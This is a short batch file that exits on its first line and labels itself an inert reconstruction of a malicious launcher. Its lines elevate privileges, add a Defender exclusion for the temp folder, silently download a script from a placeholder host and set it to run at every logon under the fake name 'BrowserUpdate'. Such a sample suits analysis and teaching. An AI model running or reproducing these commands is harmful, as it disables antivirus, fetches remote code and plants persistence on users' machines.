@exit /b
rem Inert: the line above ends this file, and no address in it exists. It shows what the real launcher looked like.
net session >nul 2>&1 || powershell -Command "Start-Process '%~f0' -Verb RunAs"
powershell -Command "Add-MpPreference -ExclusionPath '%TEMP%'"
powershell -WindowStyle Hidden -Command "iwr https://files.example.invalid/update.bat -OutFile update.bat"
schtasks /create /tn "BrowserUpdate" /tr "%TEMP%\update.bat" /sc onlogon
python loader.py
